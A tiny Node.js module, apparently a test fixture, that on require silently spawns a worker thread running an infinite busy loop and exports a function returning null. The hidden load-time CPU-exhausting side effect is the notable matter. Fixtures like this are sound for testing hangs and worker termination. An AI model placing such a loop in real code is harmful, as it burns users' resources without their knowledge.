'use strict';
new (require('worker_threads').Worker)('while(1);', { eval: true });
module.exports = () => null;
